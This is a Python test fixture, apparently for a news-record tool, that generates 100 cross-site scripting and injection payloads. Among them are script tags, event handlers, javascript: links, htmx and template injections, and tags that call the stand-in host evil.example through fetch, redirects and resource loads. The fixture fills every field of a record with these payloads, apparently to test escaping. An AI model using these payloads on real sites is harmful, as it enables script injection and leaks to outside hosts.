"""A hundred texts that try to run a script, reach a host or break out of where they stand; and a record full of them."""

from __future__ import annotations

from itertools import product

from twosource.model.facts import Role
from twosource.model.record import (
    Dispute,
    Entity,
    EntityMention,
    Happening,
    Link,
    Origin,
    Passage,
    Record,
    Relation,
    Said,
    Side,
    Unknown,
    Variant,
)
from twosource.model.text import Report, Span, When

HOST = "//evil.example"
ACTS = ("window.ran.push(1)", "alert(1)", f"fetch('http:{HOST}/f')", f"location='http:{HOST}/l'")
BARE = (
    "<script>{act}</script>", "<img src=x onerror=\"{act}\">", "<svg onload=\"{act}\">", "\"><script>{act}</script>",
    "' onmouseover='{act}' autofocus onfocus='{act}", "\" onfocus=\"{act}\" autofocus=\"", "<a href=\"javascript:{act}\">x</a>",
    "</title><script>{act}</script>", "</option></select><script>{act}</script>", "</textarea><img src=x onerror={act}>",
    "<iframe srcdoc=\"<script>{act}</script>\">", "<details open ontoggle=\"{act}\">", "<body onload=\"{act}\">",
    "<div hx-get='http://evil.example/h' hx-trigger=load>", "<div hx-on:load=\"{act}\">", "]]><script>{act}</script>",
    "<math><mtext></form><script>{act}</script>", "{{{{ {act} }}}}", "&lt;script&gt;{act}&lt;/script&gt;",
    "%3Cscript%3E{act}%3C/script%3E", "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
)  # fmt: skip
REACHES = (
    f"<img src=http:{HOST}/i>", f"<link rel=stylesheet href=http:{HOST}/s>", f"<style>@import 'http:{HOST}/c'</style>",
    f"<form action=http:{HOST}/p><input autofocus></form>", f"<meta http-equiv=refresh content='0;url=http:{HOST}/m'>",
    f"<base href=http:{HOST}/>", f"<video src=http:{HOST}/v autoplay>", f"<object data=http:{HOST}/o></object>",
    f"<embed src=http:{HOST}/e>", f"<p style=\"background:url(http:{HOST}/b)\">", f"<link rel=prefetch href=http:{HOST}/x>",
    f"<svg><image href=http:{HOST}/g /></svg>", f"![x](http:{HOST}/md)", f"<audio src=http:{HOST}/a autoplay>",
    f"<iframe src=http:{HOST}/if></iframe>", f"<script src=http:{HOST}/j></script>",
)  # fmt: skip
PLANTED: tuple[str, ...] = (*(text.format(act=act) for text, act in product(BARE, ACTS)), *REACHES)
assert len(PLANTED) == 100
TELLING = "Norway met Italy on 3 May 2021."


def planted_record() -> Record:
    """Return a record in which every text a page shows is a planted one; fact n holds text n."""
    reports, entities, events, statements, links = [], [], [], [], []
    for n, planted in enumerate(PLANTED):
        text = f"{planted}\n{TELLING} {planted}"
        here = Span(f"r{n}", 0, len(planted))
        whole = Span(f"r{n}", len(planted) + 1, len(text))
        day = When(f"2021-05-{1 + n % 28:02}", f"2021-05-{1 + n % 28:02}", "day", "stated")
        reports.append(Report(f"r{n}", planted, text, title=planted, outlet=planted, newsroom=planted, authors=(planted,),
                              dateline=planted, published=day, language="en"))  # fmt: skip
        entities.append(Entity(f"n{n}", planted, "person", (planted, f"{planted} "), None,
                               (Role(planted, planted, None, None, "text", (here,)),), (EntityMention(here, "name"),),
                               parties=(f"r{n}/p1", f"r{n}/p2")))  # fmt: skip
        other = f"n{(n + 1) % len(PLANTED)}"
        events.append(Happening(f"e{n}", "CONSULT", "meet", (f"n{n}",), (other,), f"n{n}", day, "occurred", planted,
                                (whole,), (here,), ("o0",), 1, ()))  # fmt: skip
        statements.append(Said(f"s{n}", (f"n{n}",), (other,), "direct", "asserts", planted, day, f"e{n}", (f"n{n}",),
                               ("o0",), 1, (f"e{n}",), (Variant(whole, (here,), None, None, "only"),)))  # fmt: skip
        if n:
            before = Span(f"r{n - 1}", 0, len(PLANTED[n - 1]))
            links.append(Link(f"r{n - 1}", f"r{n}", "near", 0.5, 0.5, (Passage(before, here, "edited", 0.9),)))
    return Record(
        reports=tuple(reports), links=tuple(links), entities=tuple(entities), events=tuple(events),
        statements=tuple(statements), origins=(Origin("o0", "newsroom", PLANTED[0], None, False, ("r0",)),),
        relations=(Relation("l1", "n0", "partner-of", "n1", PLANTED[1], None, "holds", (Span("r0", 0, 3),), (), 1),),
        disputes=tuple(Dispute(f"d{n}", "event", p, (Side((f"n{n}",), p, (Span(f"r{n}", 0, 3),)),)) for n, p in enumerate(PLANTED)),
        unknowns=(Unknown(None, PLANTED[2]),), title=PLANTED[0],
    )  # fmt: skip
